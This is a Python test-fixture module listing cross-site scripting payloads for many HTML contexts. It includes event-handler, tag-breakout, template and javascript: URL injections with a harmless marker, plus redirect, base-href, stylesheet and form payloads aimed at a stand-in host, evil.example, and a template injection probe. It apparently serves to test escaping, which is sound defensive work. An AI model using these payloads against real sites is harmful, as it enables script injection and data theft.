"""Texts that run, load or hide something wherever a page shows them as they are."""

from __future__ import annotations

RUN = "top.planted=1"
"""What a text does that runs: tests look for `window.planted`."""

CONTEXTS = {
    "body": "<main>{}</main>",
    "double quotes": '<input value="{}">',
    "single quotes": "<input value='{}'>",
    "title": "<title>{}</title>",
    "field": "<textarea>{}</textarea>",
    "style": "<style>{}</style>",
    "script": '<script>const text = "{}";</script>',
    "template": "<script>const text = `{}`;</script>",
    "comment": "<!-- {} -->",
    "link": '<a href="{}">link</a>',
    "twice": "<pre>{}</pre><script>document.body.innerHTML += document.querySelector('pre').textContent</script>",
}
"""Places of a page in which a text can stand."""

RUNNING = {
    f"<script>{RUN}</script>": "body",
    f"<img src=x onerror={RUN}>": "body",
    f"<svg onload={RUN}>": "body",
    f"<details open ontoggle={RUN}>": "body",
    f"<video src=x onerror={RUN}></video>": "body",
    f"<input autofocus onfocus={RUN}>": "body",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>": "body",
    f"<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart={RUN}>": "body",
    f'"><script>{RUN}</script>': "double quotes",
    f'" autofocus onfocus="{RUN}': "double quotes",
    f"' autofocus onfocus='{RUN}": "single quotes",
    f"</title><script>{RUN}</script>": "title",
    f"</textarea><script>{RUN}</script>": "field",
    f"</style><script>{RUN}</script>": "style",
    f"</script><script>{RUN}</script>": "script",
    f'";{RUN};"': "script",
    f"${{{RUN}}}": "template",
    f"--><script>{RUN}</script>": "comment",
    f"javascript:{RUN}": "link",
    f"&lt;img src=x onerror={RUN}&gt;": "twice",
}
"""Text -> the place where it runs."""

LOADING = {
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>": "body",
    "<base href=http://evil.example/><img src=x>": "body",
    "<link rel=stylesheet href=http://evil.example/x.css>": "body",
}
"""Text -> the place where it asks another host for something, without a script."""

TEXTS = (*RUNNING, *LOADING, "<form action=http://evil.example/><button>OK</button>", "{{ 191 * 7 }}{% endraw %}")
"""All of them, and what a form and a template of the server would make of a text."""

EVERYTHING = " ".join(TEXTS)

FILE_NAMES = tuple(text for text in TEXTS if "/" not in text)
"""Those that a file can have as its name."""
